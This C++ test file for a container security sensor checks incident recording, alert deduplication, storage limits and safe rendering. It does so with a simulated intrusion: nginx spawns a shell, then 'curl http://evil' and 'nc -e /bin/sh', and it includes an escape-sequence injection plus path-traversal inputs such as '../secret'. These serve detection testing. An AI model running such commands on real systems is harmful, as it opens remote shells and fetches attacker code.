#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "core/utf8.hpp"
#include "sensor/capture/testing.hpp"
#include "sensor/incident/incident_recorder.hpp"
#include "sensor/incident/mitre.hpp"
#include "sensor/process/pipeline.hpp"
#include "sensor/process/testing/record_maker.hpp"

namespace yagura::sensor {
namespace {

using testing::kBootOffset;
using testing::RecordMaker;
using testing::TestFolder;

constexpr std::uint64_t kSecond = 1'000'000'000;

TEST(EventIds, AreUniqueAndInOrder) {
  EventIds ids(7);
  std::string before;
  for (int i = 0; i < 40'000; ++i) {
    std::string id = ids.next(kBootOffset);
    EXPECT_EQ(id.size(), kEventIdSize);
    EXPECT_LT(before, id);
    before = std::move(id);
  }
  EXPECT_LT(before, ids.next(kBootOffset - 5'000'000));  // the clock was set back
  EXPECT_TRUE(is_event_id_prefix(before));
  EXPECT_FALSE(is_event_id_prefix(""));
  EXPECT_FALSE(is_event_id_prefix("../etc"));
}

TEST(Mitre, TagsAreReadable) {
  EXPECT_EQ(readable_technique("mitre_execution"), "Execution (TA0002)");
  EXPECT_EQ(readable_technique("T1059"), "Command and Scripting Interpreter (T1059)");
  EXPECT_EQ(readable_technique("T1059.004"), "Unix Shell (T1059.004)");
  EXPECT_EQ(readable_technique("T9999"), "T9999");
  EXPECT_EQ(readable_technique("maturity_stable"), std::nullopt);
  EXPECT_EQ(readable_technique("container"), std::nullopt);
}

class Alerts final : public AlertSink {
 public:
  void on_alert(const SensorAlert& alert) override {
    ids.emplace_back();
    for (const auto& [name, value] : alert.fields) {
      if (name == "yagura.event_id") ids.back() = value;
    }
  }
  std::vector<std::string> ids;
};

// Fires on programs called nc.
class Judge final : public EventConsumer {
 public:
  explicit Judge(AlertSink& sink) : sink_(&sink) {}
  void on_event(const SensorEvent& event) override {
    if (event.record->kind() != YGR_EXEC || event.process->comm != "nc") return;
    static const std::vector<std::string> kTags = {"container", "mitre_execution", "T1059.004"};
    SensorAlert alert{.rule = rule, .priority = "Warning", .tags = kTags, .output = "%proc.name"};
    alert.event = &event;
    sink_->on_alert(alert);
  }
  std::string rule = "Netcat in a container";

 private:
  AlertSink* sink_;
};

class Recorder : public ::testing::Test {
 protected:
  TestFolder folder;
  testing::ScriptedResolver resolver;
  Pipeline pipeline{resolver, {.boot_offset_ns = kBootOffset}};
  IncidentStore store = *IncidentStore::open(folder.path() / "incidents", {.max_files = 3});
  Alerts alerts;
  std::unique_ptr<IncidentRecorder> recorder;
  std::unique_ptr<Judge> judge;

  void SetUp() override { start({}); }
  void start(IncidentOptions options) {
    options.output_text = [](const SensorAlert& alert) {
      return "fired: " + std::string(alert.event->process->comm);
    };
    recorder = std::make_unique<IncidentRecorder>(std::move(options), EventIds(1), store,
                                                  &pipeline.processes(), alerts);
    judge = std::make_unique<Judge>(*recorder);
    pipeline.add_consumer(*recorder);
    pipeline.add_consumer(*judge);
  }

  void feed(RecordMaker record) { pipeline.feed(record.view()); }
  void run(std::uint32_t pid, std::uint32_t parent, std::string_view exe,
           std::initializer_list<std::string_view> argv, std::uint64_t time) {
    feed(RecordMaker(YGR_FORK, "clone", pid).cgroup(7).time(time).task(parent, time));
    feed(RecordMaker(YGR_EXEC, "execve", pid)
             .cgroup(7)
             .time(time + 1)
             .task(parent, time)
             .program(exe, argv));
  }
  void attack(std::uint64_t at = kSecond) {
    resolver.set(7, testing::make_container(7, "c0ffee"));
    feed(RecordMaker(YGR_TASK, "", 10).time(1).task(1, 5).program("/usr/bin/shim", {"shim"}));
    run(20, 10, "/usr/sbin/nginx", {"nginx", "-g"}, at);
    run(21, 20, "/bin/sh", {"sh", "-c", "curl \x1b[2J"}, at + 10);
    run(22, 21, "/usr/bin/curl", {"curl", "http://evil"}, at + 20);
    feed(RecordMaker(YGR_CALL, "connect", 22)
             .cgroup(7)
             .time(at + 30)
             .socket(3, "10.0.0.1", 4000, "203.0.113.9", 80));
    for (int i = 0; i < 5; ++i) {
      feed(RecordMaker(YGR_CALL, "openat", 22)
               .cgroup(7)
               .time(at + 40)
               .file(4, "/tmp/x", 0100644, 1));
    }
    feed(RecordMaker(YGR_CALL, "openat", 22).cgroup(7).time(at + 41).file(5, "/etc/hosts"));
    feed(RecordMaker(YGR_EXIT, "procexit", 22).cgroup(7).time(at + 50));
    run(23, 21, "/tmp/nc", {"nc", "-e", "/bin/sh"}, at + 60);
  }
  Incident last() {
    const auto document = store.read("last");
    EXPECT_TRUE(document.has_value());
    auto incident = read_incident(document.value_or(""));
    EXPECT_TRUE(incident.has_value()) << (incident ? "" : incident.error().message);
    return incident ? *incident : Incident();
  }
};

TEST_F(Recorder, WritesDownWhatWasAroundTheAlert) {
  attack();
  ASSERT_EQ(alerts.ids.size(), 1U);
  ASSERT_FALSE(alerts.ids[0].empty());
  const Incident incident = last();
  EXPECT_EQ(incident.id, alerts.ids[0]);
  EXPECT_EQ(incident.rule, "Netcat in a container");
  EXPECT_EQ(incident.output, "fired: nc");
  ASSERT_NE(incident.container, nullptr);
  EXPECT_EQ(incident.container->pod->workload_name, "web");
  std::vector<std::uint32_t> pids;
  for (const IncidentProcess& process : incident.processes) pids.push_back(process.pid);
  EXPECT_EQ(pids, (std::vector<std::uint32_t>{10, 20, 21, 22, 23}));
  EXPECT_FALSE(incident.processes[0].is_in_container);
  EXPECT_TRUE(incident.processes[1].is_ancestor);
  EXPECT_TRUE(incident.processes[3].has_exited);
  EXPECT_TRUE(incident.processes[4].is_subject);
  EXPECT_EQ(incident.processes[4].command_line, "nc -e /bin/sh");
  EXPECT_EQ(incident.processes[4].started_ns,
            kBootOffset + static_cast<std::int64_t>(kSecond + 60));

  std::vector<std::string> lines;
  for (const Note& note : incident.notes) {
    if (note.kind == NoteKind::kExec || note.kind == NoteKind::kExit) continue;
    lines.push_back(std::string(to_string(note.kind)) + " " + note.subject + " " +
                    std::to_string(note.count));
  }
  // Five opens are one note; the one for reading is none.
  EXPECT_EQ(lines, (std::vector<std::string>{"connect tcp 10.0.0.1:4000 -> 203.0.113.9:80 1",
                                             "write /tmp/x 5"}));
}

TEST_F(Recorder, DocumentsReadBackAsTheyWere) {
  attack();
  const std::string document = *store.read("last");
  EXPECT_EQ(core::find_invalid_utf8(document), std::string_view::npos);
  const Incident incident = last();
  Incident again = *read_incident(to_json(incident));
  EXPECT_EQ(to_json(again), to_json(incident));
}

TEST_F(Recorder, TextIsATreeWithoutHostileBytes) {
  attack();
  const std::string text = to_text(last(), Colours::kNone);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_NE(text.find("shim  [10"), std::string::npos) << text;
  EXPECT_NE(text.find("└─ nginx -g  [20"), std::string::npos) << text;
  EXPECT_NE(text.find("   └─ sh -c curl \\x1b[2J  [21"), std::string::npos) << text;
  EXPECT_NE(text.find("      ├─ curl http://evil  [22"), std::string::npos) << text;
  EXPECT_NE(text.find("      └─ ▶ nc -e /bin/sh  [23"), std::string::npos) << text;
  EXPECT_NE(text.find("Execution (TA0002), Unix Shell (T1059.004)"), std::string::npos) << text;
  EXPECT_NE(text.find("shop/web-1"), std::string::npos);
  EXPECT_NE(text.find("×5"), std::string::npos);
  EXPECT_NE(to_text(last(), Colours::kAnsi).find("\x1b[1;31m"), std::string::npos);
}

TEST_F(Recorder, AStormIsOneIncident) {
  attack();
  for (std::uint32_t i = 0; i < 100; ++i) run(100 + i, 21, "/tmp/nc", {"nc"}, 2 * kSecond + i * 10);
  ASSERT_EQ(alerts.ids.size(), 101U);
  for (const std::string& id : alerts.ids) EXPECT_EQ(id, alerts.ids[0]);
  EXPECT_EQ(recorder->counts().repeats, 100U);
  EXPECT_EQ(store.counts().written, 1U);
  // Later it is another one, which remembers the first.
  run(300, 21, "/tmp/nc", {"nc"}, 60 * kSecond);
  EXPECT_NE(alerts.ids.back(), alerts.ids[0]);
  ASSERT_EQ(last().earlier.size(), 1U);
  EXPECT_EQ(last().earlier[0].id, alerts.ids[0]);
}

TEST_F(Recorder, DocumentsASecondAreBounded) {
  attack();
  for (std::uint32_t i = 0; i < 30; ++i) {
    judge->rule = "rule " + std::to_string(i);
    run(100 + i, 21, "/tmp/nc", {"nc"}, 5 * kSecond + i * 10);
  }
  EXPECT_EQ(recorder->counts().suppressed, 20U);
  EXPECT_EQ(alerts.ids.back(), "");
}

TEST_F(Recorder, TheStoreKeepsTheNewest) {
  attack();
  for (std::uint32_t i = 1; i < 6; ++i) run(100 + i, 21, "/tmp/nc", {"nc"}, i * 100 * kSecond);
  EXPECT_EQ(store.counts().files, 3U);
  EXPECT_EQ(store.counts().deleted, 3U);
  EXPECT_EQ(store.ids().back(), alerts.ids.back());
  EXPECT_EQ(store.read(alerts.ids.front()).error().code, ErrorCode::kNotFound);
  EXPECT_EQ(store.read("../secret").error().code, ErrorCode::kInvalidInput);
  // All of them begin with the same digits.
  EXPECT_EQ(store.read(alerts.ids.back().substr(0, 3)).error().code, ErrorCode::kInvalidInput);
  const auto again = IncidentStore::open(folder.path() / "incidents");
  EXPECT_EQ(again->ids(), store.ids());
  EXPECT_EQ(again->counts().bytes, store.counts().bytes);
}

TEST_F(Recorder, AFullDiskCostsTheDocumentAlone) {
  if (geteuid() == 0) {
    // Root may write anywhere; a folder that is gone refuses him too.
    std::filesystem::remove_all(folder.path() / "incidents");
  } else {
    std::filesystem::permissions(folder.path() / "incidents", std::filesystem::perms::none);
  }
  attack();
  EXPECT_EQ(alerts.ids.size(), 1U);
  EXPECT_EQ(store.counts().failed, 1U);
}

TEST_F(Recorder, OfTheHostOnlyWhatIsNearIsTold) {
  const auto host = [this](std::uint32_t pid, std::uint32_t parent, std::string_view exe,
                           std::uint64_t time) {
    feed(RecordMaker(YGR_EXEC, "execve", pid).time(time).task(parent, time).program(exe, {exe}));
  };
  host(1, 0, "/sbin/init", 10);
  host(5, 1, "/usr/bin/backup", 20);
  feed(RecordMaker(YGR_CALL, "openat", 5).time(25).file(4, "/var/backup", 0100644, 1));
  host(6, 1, "/bin/bash", 30);
  host(7, 6, "/bin/ls", 40);
  host(8, 6, "/bin/nc", 50);
  const Incident incident = last();
  std::vector<std::uint32_t> pids;
  for (const IncidentProcess& process : incident.processes) pids.push_back(process.pid);
  EXPECT_EQ(pids, (std::vector<std::uint32_t>{1, 6, 7, 8}));
  for (const Note& note : incident.notes) EXPECT_NE(note.pid, 5U);
  EXPECT_NE(to_text(incident, Colours::kNone).find("a process of the host"), std::string::npos);
}

TEST(Notes, VerdictsSayWhatWasDecided) {
  ygr_verdict verdict{};
  verdict.operation = 5;  // write
  verdict.action = YGR_BLOCKED;
  verdict.tier = 'A';
  RecordMaker file(YGR_VERDICT, "", 5);
  file.with(YGR_S_VERDICT, verdict).text(YGR_S_PATH0, "/etc/passwd");
  EXPECT_EQ(verdict_text(file.view()), "blocked file.write /etc/passwd (tier A)");
  verdict.operation = 15;  // egress
  verdict.action = YGR_KILLED;
  verdict.tier = 'B';
  RecordMaker connection(YGR_VERDICT, "", 5);
  connection.with(YGR_S_VERDICT, verdict).address("203.0.113.9", 443);
  EXPECT_EQ(verdict_text(connection.view()), "killed network.egress 203.0.113.9:443 (tier B)");
  verdict.action = 77;
  verdict.operation = 0xffff;
  RecordMaker hostile(YGR_VERDICT, "", 5);
  hostile.with(YGR_S_VERDICT, verdict);
  EXPECT_TRUE(verdict_text(hostile.view()).starts_with("? "));
  EXPECT_EQ(verdict_text(RecordMaker(YGR_VERDICT, "", 5).view()), "");
}

TEST(Notes, StayWithinTheirMemoryAndTheirShare) {
  testing::ScriptedResolver resolver;
  Pipeline pipeline(resolver, {});
  resolver.set(7, testing::make_container(7, "aaaa"));
  resolver.set(8, testing::make_container(8, "bbbb"));
  const NoteLimits limits{.max_bytes = 64 << 10, .max_share = 4};
  class Taker final : public EventConsumer {
   public:
    explicit Taker(NoteLimits limits) : notes(limits) {}
    void on_event(const SensorEvent& event) override { notes.take(event); }
    Notes notes;
  } taker(limits);
  pipeline.add_consumer(taker);
  const auto write = [&pipeline](std::uint32_t pid, std::uint64_t cgroup, const std::string& path) {
    pipeline.feed(
        RecordMaker(YGR_CALL, "openat", pid).cgroup(cgroup).file(4, path, 0100644, 1).view());
  };
  write(1, 8, "/quiet");
  for (int i = 0; i < 20'000; ++i) write(2, 7, "/storm/" + std::to_string(i));
  EXPECT_LE(taker.notes.bytes(), limits.max_bytes / 2);
  EXPECT_GT(taker.notes.dropped(), 19'000U);
  const std::string quiet = std::string("bbbb") + std::string(60, '0');
  ASSERT_EQ(taker.notes.of(quiet).size(), 1U);
  const std::string storm = std::string("aaaa") + std::string(60, '0');
  EXPECT_EQ(taker.notes.of(storm).back().subject, "/storm/19999");
  // Many containers: the whole is bounded, the oldest go first.
  for (std::uint64_t i = 0; i < 1000; ++i) {
    resolver.set(100 + i, testing::make_container(100 + i, "c" + std::to_string(1000 + i)));
    write(static_cast<std::uint32_t>(100 + i), 100 + i, "/one");
  }
  EXPECT_LE(taker.notes.bytes(), limits.max_bytes);
  EXPECT_TRUE(taker.notes.of(quiet).empty());
}

TEST(Incidents, OtherDocumentsAreRefused) {
  EXPECT_FALSE(read_incident("").has_value());
  EXPECT_FALSE(read_incident("[]").has_value());
  EXPECT_FALSE(read_incident("{}").has_value());
  EXPECT_FALSE(read_incident(std::string(100'000, '[')).has_value());
  EXPECT_EQ(read_incident(std::string(kMaxIncidentSize + 1, ' ')).error().code,
            ErrorCode::kLimitExceeded);
}

// Documents may hold anything: circles, thousands of levels.
TEST(Incidents, HostileTreesAreDrawn) {
  Incident incident;
  incident.rule = "x";
  for (std::uint32_t i = 0; i < 3000; ++i) {
    incident.processes.push_back({.pid = i, .parent_pid = i == 0 ? 2999 : i - 1, .name = "p"});
  }
  EXPECT_LT(to_text(incident, Colours::kNone).size(), 100'000U);
}

}  // namespace
}  // namespace yagura::sensor
